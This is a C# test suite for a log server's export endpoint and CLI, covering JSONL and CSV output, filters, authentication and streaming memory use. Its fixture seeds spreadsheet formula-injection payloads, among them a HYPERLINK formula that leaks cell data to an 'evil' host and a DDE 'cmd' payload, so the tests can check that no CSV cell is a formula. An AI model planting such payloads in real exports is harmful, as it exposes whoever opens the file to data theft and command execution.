using System.Text.Json;
using Shouldly;
using Xunit;

namespace Tracira.Server.Tests;

/// <summary>GET /api/logs/export and <c>tracira export</c>.</summary>
public sealed class ExportTests(ExportTests.FilledServer server) : IClassFixture<ExportTests.FilledServer>
{
    private HttpClient Http => server.Http;

    [Fact]
    public async Task JSON_lines_are_the_logs_as_they_are_read_one_by_one()
    {
        using HttpResponseMessage response = await Http.GetAsync("/api/logs/export");
        response.Content.Headers.ContentType!.MediaType.ShouldBe("application/x-ndjson");
        response.Content.Headers.ContentDisposition!.DispositionType.ShouldBe("attachment");
        response.Content.Headers.ContentDisposition.FileName!.Trim('"').ShouldMatch(@"^tracira-logs-\d{8}-\d{6}\.jsonl$");
        string text = await response.Content.ReadAsStringAsync();
        text.ShouldEndWith("\n");
        string[] lines = text.TrimEnd('\n').Split('\n');
        lines.Length.ShouldBe(4);
        foreach (string line in lines)
        {
            string id = JsonDocument.Parse(line).RootElement.GetProperty("id").GetString()!;
            line.ShouldBe(await Http.GetStringAsync($"/api/logs/{id}"));
        }
    }

    [Fact]
    public async Task CSV_keeps_commas_quotes_and_lines_and_no_cell_is_a_formula()
    {
        using HttpResponseMessage response = await Http.GetAsync("/api/logs/export?format=csv");
        response.Content.Headers.ContentType!.MediaType.ShouldBe("text/csv");
        response.Content.Headers.ContentDisposition!.FileName!.Trim('"').ShouldEndWith(".csv");
        Golden.ShouldMatchGolden(await response.Content.ReadAsStringAsync(), "export-csv");
    }

    [Theory]
    [InlineData("project=MAIL", "a b d")]
    [InlineData("status=flagged", "b d")]
    [InlineData("from=2026-01-02&to=2026-01-04", "b c")]
    [InlineData("tags=vip&limit=1&page=7&sortBy=model", "a d")]
    [InlineData("q=gpt", "a")]
    [InlineData("text=GRÜ", "c")]
    [InlineData("text=two \"three\"&project=mail", "a")]
    [InlineData("text=gpt", "")]
    [InlineData("project=nothing", "")]
    public async Task Every_filter_of_the_list_holds_and_paging_does_not(string query, string ids) =>
        string.Join(' ', (await LinesAsync($"/api/logs/export?format=jsonl&{query}")).Select(static log => log.GetProperty("id").GetString())).ShouldBe(ids);

    [Theory]
    [InlineData("format=xml", "format")]
    [InlineData("status=odd&from=soon", "status,from")]
    public async Task A_bad_parameter_is_named(string query, string fields)
    {
        Answer answer = await Http.GetJsonAsync($"/api/logs/export?{query}");
        answer.Status.ShouldBe(400);
        answer.Fields.Order().ShouldBe(fields.Split(',').Order());
    }

    [Fact]
    public async Task Without_a_token_there_is_nothing()
    {
        using var stranger = new HttpClient { BaseAddress = server.Address };
        (await stranger.GetJsonAsync("/api/logs/export")).Status.ShouldBe(401);
    }

    [Fact]
    public async Task A_large_export_waits_for_its_reader_and_takes_no_more_memory_than_a_small_one()
    {
        string folder = Directory.CreateTempSubdirectory("tracira-test-").FullName;
        await using (ServerProcess large = await ServerProcess.StartAsync(folder))
        {
            const int Batches = 16; // 120 MB; what batches of this size leave to be collected is some 40 MB, one way or the other
            string output = new('x', 15_000);
            string logs = string.Join(',', Enumerable.Repeat($$"""{"project":"p","output":"{{output}}"}""", 500));
            for (int i = 0; i < Batches; i++)
                (await large.Http.PostJsonAsync("/api/logs/batch", $$"""{"logs":[{{logs}}]}""")).Status.ShouldBe(200);

            await ReadAsync(bytes: 1_000); // warm
            long before = MemoryOf(large.Id);
            using HttpResponseMessage slow = await large.Http.GetAsync("/api/logs/export", HttpCompletionOption.ResponseHeadersRead);
            await Task.Delay(1_000); // a reader who reads nothing: 120 MB wait for it
            (MemoryOf(large.Id) - before).ShouldBeLessThan(80_000_000);
            (await ReadAsync(long.MaxValue)).ShouldBeGreaterThan(Batches * 500 * 15_000L);
            (MemoryOf(large.Id) - before).ShouldBeLessThan(80_000_000);

            async Task<long> ReadAsync(long bytes)
            {
                using HttpResponseMessage response = await large.Http.GetAsync("/api/logs/export", HttpCompletionOption.ResponseHeadersRead);
                await using Stream body = await response.Content.ReadAsStreamAsync();
                byte[] buffer = new byte[64 * 1024];
                long total = 0;
                for (int read = 1; read > 0 && total < bytes; total += read)
                    read = await body.ReadAsync(buffer);
                return total;
            }
        }

        Directory.Delete(folder, recursive: true);
    }

    [Fact]
    public async Task The_command_writes_the_same_whether_the_server_runs_or_not()
    {
        string folder = Directory.CreateTempSubdirectory("tracira-test-").FullName;
        string data = Path.Combine(folder, "data");
        string file = Path.Combine(folder, "logs.csv");
        await using (ServerProcess running = await ServerProcess.StartAsync(data))
        {
            await running.Http.PostJsonAsync("/api/logs", """{"project":"a & b","output":"x","id":"one"}""");
            await running.Http.PostJsonAsync("/api/logs", """{"project":"other","output":"y","id":"two"}""");
            (await Binary.RunAsync($"export {file} --format csv --project \"a & b\" --output-text X --data {data}")).ExitCode.ShouldBe(0);
            (await Binary.RunAsync($"export --status odd --data {data}")).ShouldSatisfyAllConditions(
                static run => run.ExitCode.ShouldBe(2), static run => run.Error.ShouldContain("status must be one of"));
        }

        string[] rows = (await File.ReadAllTextAsync(file)).TrimEnd().Split("\r\n");
        rows.Length.ShouldBe(2);
        rows[1].ShouldStartWith("one,");
        (int code, string lines, _) = await Binary.RunAsync($"export --data {data}");
        code.ShouldBe(0);
        lines.TrimEnd().Split('\n').Length.ShouldBe(2);
        (await Binary.RunAsync($"export {Path.Combine(folder, "none", "x")} --data {data}")).ExitCode.ShouldBe(2);
        Directory.GetFiles(folder).ShouldBe([file]);
        Directory.Delete(folder, recursive: true);
    }

    private static long MemoryOf(int process)
    {
        string line = File.ReadLines($"/proc/{process}/status").First(static line => line.StartsWith("VmRSS:", StringComparison.Ordinal));
        return 1024 * long.Parse(line.Split(' ', StringSplitOptions.RemoveEmptyEntries)[1], System.Globalization.CultureInfo.InvariantCulture);
    }

    private async Task<JsonElement[]> LinesAsync(string path) =>
        [.. (await Http.GetStringAsync(path)).Split('\n', StringSplitOptions.RemoveEmptyEntries).Select(static line => JsonDocument.Parse(line).RootElement)];

    /// <summary>A server with four logs that are hard on a table, a to d, a day apart.</summary>
    public sealed class FilledServer : ServerFixture
    {
        public override async Task InitializeAsync()
        {
            await base.InitializeAsync();
            await Http.PostJsonAsync("/api/rules", """{"name":"No discounts","type":"keyword_forbidden","value":"discount"}""");
            foreach (string body in new[]
            {
                """{"id":"a","timestamp":"2026-01-01T12:00:00Z","project":"mail","task":"Draft","output":"one, two \"three\"","model":"gpt-4o","sessionId":"s1","tags":["vip","eu"],"latencyMs":30,"costUsd":0.0005,"metadata":{"run":7}}""",
                """{"id":"b","timestamp":"2026-01-02T12:00:00Z","project":"mail","output":"=HYPERLINK(\"http://evil/?\"&A1)\r\na discount","actorId":"@SUM(1)","subjectId":"-5.5"}""",
                """{"id":"c","timestamp":"2026-01-03T12:00:00Z","project":"+1|cmd","output":"\tGrüße 👋","inputText":"-1+cmd|' /C calc'!A0","confidence":0.5}""",
                """{"id":"d","timestamp":"2026-01-04T12:00:00Z","project":"mail","action":{"name":"refund"},"tags":["vip"],"requireApproval":true}""",
            })
                (await Http.PostJsonAsync("/api/logs", body)).Status.ShouldBe(202);
            await Http.PatchJsonAsync("/api/logs/b/decision", """{"decision":"rejected","note":"No, \"never\"."}""");
        }
    }
}
